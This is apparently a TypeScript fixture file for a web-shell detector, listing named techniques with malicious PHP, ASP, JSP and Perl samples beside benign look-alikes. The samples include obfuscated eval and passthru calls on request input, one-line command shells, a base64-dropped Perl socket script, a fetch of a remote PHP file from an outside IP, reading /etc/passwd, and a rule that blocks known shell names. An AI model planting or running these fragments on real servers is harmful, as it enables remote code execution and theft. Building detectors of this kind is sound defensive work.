import { base64, php } from './spelling.ts'
import type { Technique } from './technique.ts'

/** Texts whose bits, combined with others, are the name of a function. */
const bits = (name: string) =>
  `'${name
    .split('')
    .map(c => String.fromCharCode(c.charCodeAt(0) & 0x6f))
    .join('')}'|${name.replaceAll(/[^a-z]/g, 'p')}`

/** What public shells have in common, beyond the single call that makes them one. */
export const MARKS: readonly Technique[] = [
  {
    name: 'names from bits',
    severity: 'suspicious',
    samples: ['system', 'assert', 'passthru'].map(name =>
      php(
        `$q1=${bits(name)};$q2=bcdf^'#!x';$q3='kj~m'&nnzz;$q4='e|t'&'g^5';$q5='A'|'B';if($q2($q3($q5)))$q1($q3($q4),$q2);`,
      ),
    ),
    honest: [
      php(`$mode = E_ALL & ~E_NOTICE; $flags = ENT_QUOTES | ENT_HTML5; $name = 'render'; $name($mode, $flags);`),
      php(`/** @param 'asc'|'desc' $order */ function sorted($order) { $f = 'usort'; return $f($order); }`),
    ],
  },
  {
    name: 'programs in texts',
    severity: 'suspicious',
    samples: [
      php(
        `function cf($n, $t) { $h = fopen($n, 'w'); fwrite($h, base64_decode($t)); }\n$p = '${base64('#!/usr/bin/perl\nuse Socket; print "a program that connects";')}'; cf('/tmp/b.pl', $p);`,
      ),
      php(`$c = "${base64('#include <stdio.h>\nint main(int argc) { return 0; }')}"; fwrite($h, base64_decode($c));`),
      `$to = $_SERVER['DOCUMENT_ROOT'] . '/x.php';\nfwrite(fopen($to, 'w+'), base64_decode('${base64('<?php echo "nothing but a page, which is long enough";')}'));`,
    ],
    honest: [
      php(`$picture = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQAQMAAAAlPW0iAAAAA1BMVEX'; echo base64_decode($picture);`),
      php(`$key = base64_decode('${base64('a key that is long enough to be one')}'); fwrite($file, $key);`),
    ],
  },
  {
    name: 'runs by detours',
    severity: 'suspicious',
    samples: [
      php(
        `function run($c) { ob_start(); passthru($c); return ob_get_clean(); }\nfunction which($p) { return run('which ' . $p); }\nrun(which('perl') . ' /tmp/x ' . $_POST['host'] . ' &');`,
      ),
      php(`passthru(getenv('HTTP_ACCEPT_LANGUAGE'));`),
      php(
        `$p = explode('.', 'on.ass.off.er.t'); array_intersect_ukey(array($_POST['k'] => 1), [1], $p[1].$p[3].$p[4]);`,
      ),
      php(
        `class Door { var $do = ''; function __destruct() { eval($this->do); } } /* ${'-'.repeat(900)} */ unserialize($_GET['o']);`,
      ),
      php(
        `function out($t, $k) { $o = ''; for ($i = 0; $i < strlen($t); $i += 2) $o = $o . chr(hexdec(substr($t, $i, 2)) - $k); return $o; }\n(@$_ = out('6A767C687B77', 3)) . @$_(out('6776666E2867', 5));`,
      ),
      php(`$f = realpath(dirname(__FILE__)) . $_POST['n']; $t = $_POST['t']; @fwrite(fopen($f, 'w'), $t);`),
    ],
    honest: [
      php(`function icon($n) { return '<i>' . $n . '</i>'; }\necho icon('home') . esc_html($_GET['title']);`),
      php(`$lang = substr(getenv('HTTP_ACCEPT_LANGUAGE'), 0, 2); echo $lang === 'de' ? 'Hallo' : 'Hello';`),
      php(`$parts = explode('.', 'jpg.png.gif'); echo $parts[0] . $parts[1]; fwrite(fopen($log, 'a'), 'done');`),
    ],
  },
  {
    name: 'several habits',
    severity: 'suspicious',
    samples: [
      php(
        `function go($c) { if (function_exists('exec')) { exec($c, $o); return $o; } elseif (function_exists('shell_exec')) { return shell_exec($c); } }`,
      ),
      php(
        `set_time_limit(0); $lines = file($config['list']); foreach ($lines as $to) { mail($to, $_GET['s'], $text, "From: x"); }`,
      ),
      php(
        `function get($u, $f = '') { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u); file_put_contents($f, curl_exec($c)); }\nget('http://203.0.113.7/t/one.php');`,
      ),
      php(
        `$body = php_strip_whitespace($argv[1]); $out = '<?php '; $out .= '$n = ~' . (~'assert') . ';'; file_put_contents($argv[2], $out);`,
      ),
      php(
        `$name = $_FILES['u']['name']; $type = pathinfo($name, PATHINFO_EXTENSION); if (copy($_FILES['u']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . '/' . $name)) echo $type;`,
      ),
      php(
        `$auth = array('pass' => '63a9f0ea7bb98050796b649e85481845'); if (md5($_POST['pass']) == $auth['pass']) { $_SESSION['in'] = true; }`,
      ),
    ],
    honest: [
      php(`foreach (array('exec', 'shell_exec') as $name) if (!function_exists($name)) $missing[] = $name;`),
      php(
        `namespace Acme; class Mailer { function all($list) { foreach ($list as $to) mail($to, 'News', $this->text); } }`,
      ),
      php(
        `add_action('init', 'update_list'); function update_list() { file_put_contents($cache, file_get_contents('https://example.com/list.txt')); }`,
      ),
      php(
        `$dir = __DIR__; $type = $_FILES['u']['type']; if (in_array($type, array('image/png'))) move_uploaded_file($_FILES['u']['tmp_name'], $dir . '/' . $_FILES['u']['name']);`,
      ),
    ],
  },
  {
    name: 'more habits',
    severity: 'suspicious',
    samples: [
      php(`echo '<pre>'; system('cat /etc/passwd; ls'); echo '</pre>';`),
      php(`$s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '0.0.0.0', $_GET['p']); socket_listen($s);`),
      php(`$h = fopen("{$_POST['n']}", 'w'); fputs($h, $_POST['t']);`),
      php(
        `$t = '${base64('no code that anyone can read, but long enough to be some')}'; $b = base64_decode($t); @eval($b); // ${'-'.repeat(1300)}`,
      ),
      php(
        `function tree($d) { if ($h = opendir($d)) { while (($f = readdir($h)) !== false) { if (is_writable($d . '/' . $f)) echo $d . $f; } } }\ntree($_GET['d']);`,
      ),
      php(`$from = $_GET['c']; $to = getcwd() . '/x.txt'; @symlink($from, $to); header('Location: x.txt');`),
      php(`for ($u = 0; $u < 60000; $u++) { $who = posix_getpwuid($u); if (!empty($who)) echo join(':', $who); }`),
      php(`system('./find ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);`),
      php(`$all = '_POST'; $key = 'k'; $make = 'create_function'; $f = $make('', $GLOBALS[$all][$key]); $f();`),
      php(`function fill(&$to) { $to = $_POST['x']; }\n$run = 'date'; fill($run); system($run);`),
    ],
    honest: [
      php(`namespace Acme; class Host { function name() { return exec('hostname'); } }`),
      php(`$server = stream_socket_server('tcp://127.0.0.1:8080'); $client = stream_socket_accept($server);`),
      php(`$logo = base64_decode('${base64('a picture that is long enough to be one')}'); echo strlen($logo);`),
      php(
        `function pictures($d) { return glob($d . '/*.jpg'); }\nforeach (pictures(__DIR__) as $p) echo $p; echo intval($_GET['page']);`,
      ),
      php(`$who = posix_getpwuid(posix_geteuid()); for ($i = 0; $i < 3; $i++) echo $who['name'];`),
      php(`function add_one(&$n) { $n++; }\n$n = 1; add_one($n); echo $n;`),
      php(`echo 'You come from ' . htmlspecialchars($_SERVER['REMOTE_ADDR']);`),
    ],
  },
  {
    name: 'other languages under the name of PHP',
    severity: 'confirmed',
    samples: [
      `<% Set s = Server.CreateObject("WScript.Shell")\nResponse.Write s.Exec("cmd /c " & Request("c")).StdOut.ReadAll %>`,
      `<%@ page import="java.io.*"%><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>`,
      `#!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $c = $q->param('c');\nprint \`$c\`;\nsystem($c);`,
    ],
    honest: [
      `<p>Templates of JSP look like <% this %>, and ask for a request.</p>`,
      `#!/usr/bin/env php\n${php(`echo "Done.\\n";`)}`,
    ],
  },
  {
    name: 'names of tools',
    severity: 'suspicious',
    samples: [
      php(`$title = 'WebShell by no one'; $h = opendir('.'); while ($f = readdir($h)) echo $f;`),
      php(`// r57shell, changed\n$version = '1'; $h = fopen('x', 'r');`),
      php(`echo '<title>My Web-Shell</title>'; foreach (scandir('.') as $f) echo $f;`),
      php(`// Edited by KingDefacer\n$h = opendir('.');`),
      `<title>Back Connect</title><?php // Safe mode, disable_functions, /etc/passwd: execute command\n$k = $_POST['k']; fsockopen($k, 80); ?>`,
    ],
    honest: [
      php(`// Runs in a shell of the server, not in PHP itself.\n$h = fopen('php://stdout', 'w');`),
      php(`$text = 'How to tell that your site was hacked'; echo file_get_contents('help.html');`),
      php(
        `if (preg_match('~/(alfa|b374k|c99|wso|c99shell)[.]php~i', $_SERVER['REQUEST_URI'])) { header('HTTP/1.1 403'); exit; } include('page.php');`,
      ),
      php(
        `$manager = new FilesManager(fopen('list.csv', 'r')); // Signs in with WSO2 as well, in a shell by default\n`,
      ),
      php(
        `class Tips { function all() { return array('A web shell gives away your server.', file_get_contents(__DIR__ . '/more.txt')); } }`,
      ),
    ],
  },
]
